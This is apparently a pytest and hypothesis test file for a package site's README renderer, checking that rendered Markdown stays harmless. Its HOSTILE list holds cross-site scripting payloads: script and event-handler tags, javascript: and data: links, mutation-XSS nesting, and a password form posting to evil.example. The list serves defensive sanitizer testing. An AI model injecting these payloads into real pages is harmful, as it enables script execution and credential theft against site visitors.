"""READMEs: what Markdown means is shown, and nothing in one can act."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from packhouse.ui.markdown import LIMIT, TAGS, render_markdown, render_readme
from packhouse.ui.readmes import ReadmeCache

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\"onmouseover=alert(1)")',
    '<div style="position:fixed;inset:0">over everything</div>',
    "<form action=https://evil.example><input name=password></form>",
    '<a id="main" name="csrf">clobber</a>',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[x]: javascript:alert(1)\n\n[x]",
    "<div hx-get='/-/user_settings' hx-trigger='load'></div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)


class Reader(HTMLParser):
    """Collects elements and attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Reader(html).elements:
        assert tag in TAGS
        assert set(attributes) <= {"href", "title", "rel", "start"}
        if "href" in attributes:
            assert str(attributes["href"]).lower().startswith(("http://", "https://", "mailto:"))
            assert attributes["rel"] == "nofollow noopener noreferrer ugc"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_readme_is_harmless(text: str) -> None:
    """A package could run code in the browser of everybody who looks at it."""
    assert_harmless(str(render_markdown(text)))
    assert_harmless(str(render_readme(text, "text/x-rst").html))


@given(
    st.lists(st.sampled_from((*HOSTILE, "\n", "\n\n", "> ", "- ", "*", "`", "[", "](", ")", "<", ">", "&", '"', "|", "#", " ", "    ")), max_size=12)
)
def test_no_mixture_of_hostile_pieces_acts(pieces: list[str]) -> None:
    """One construct could open what another closes, and smuggle markup past the allow list."""
    assert_harmless(str(render_markdown("".join(pieces))))


@given(st.text())
def test_any_text_renders(text: str) -> None:
    """An odd character in a README would make its package's page fail."""
    assert_harmless(str(render_markdown(text)))


def test_markdown_means_what_it_says() -> None:
    """Tables, code, lists and emphasis would be shown as they were typed."""
    html = str(render_markdown("# One\n\nSome *text* and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n- ~~y~~\n"))
    for piece in ("<h3>One</h3>", "<em>text</em>", "<code>code</code>", "<td>2</td>", "<li>x</li>", "<s>y</s>"):
        assert piece in html


def test_headings_stand_below_the_pages_own() -> None:
    """Who listens to the page would hear the README's title as the page's."""
    html = str(render_markdown("# a\n\n###### b\n"))
    assert "<h3>a</h3>" in html
    assert "<h6>b</h6>" in html


def test_html_is_left_out_and_its_words_stay() -> None:
    """A README that centres its title with HTML would begin with a line of tags."""
    html = str(render_markdown('<div align="center">Hello <b>you</b> &amp; me</div>\n\nline<br>next\n'))
    assert "Hello you &amp; me" in html
    assert "align" not in html
    assert "<br>" in html


def test_images_become_links() -> None:
    """A page would fetch from other sites on behalf of its reader, or hide what the image stood for."""
    html = str(render_markdown("![Chart](https://img.example/a.png) [![Build](https://img.example/b.svg)](https://ci.example) ![Local](a.png)"))
    assert "<img" not in html
    assert 'href="https://img.example/a.png"' in html
    assert ">Build</a>" in html
    assert "Local" in html


def test_links_into_a_source_tree_become_text() -> None:
    """A link of the README would lead to a page of ours that does not exist."""
    html = str(render_markdown("[the guide](docs/guide.md) and [part](#part)"))
    assert "the guide" in html
    assert "<a" not in html


def test_other_texts_are_shown_as_typed() -> None:
    """A text in another markup would lose its lines, or be read as Markdown."""
    assert str(render_readme("Title\n=====\n\n*a* <b>", "text/x-rst; charset=UTF-8").html) == "<pre>Title\n=====\n\n*a* &lt;b&gt;</pre>"


def test_a_huge_text_is_cut_at_a_line_and_says_so() -> None:
    """A README of megabytes would hold up the process that shows it, or end without a word."""
    readme = render_readme("line\n" * LIMIT, "text/plain")
    assert readme.cut
    assert len(readme.html) < LIMIT + 20
    assert readme.html.endswith("line</pre>")
    assert not render_readme("short", "text/markdown").cut


def test_the_cache_keeps_the_latest() -> None:
    """The costliest part of a page would be made again each time, or memory would grow without end."""
    cache = ReadmeCache(2)
    readmes = {text: render_readme(text, "text/markdown") for text in ("a", "b", "c")}
    cache.keep("a", "text/markdown", readmes["a"])
    cache.keep("b", "text/markdown", readmes["b"])
    assert cache.find("a", "text/markdown") is readmes["a"]
    cache.keep("c", "text/markdown", readmes["c"])
    assert cache.find("b", "text/markdown") is None
    assert cache.find("a", "text/markdown") is readmes["a"]
    assert cache.find("a", "text/plain") is None
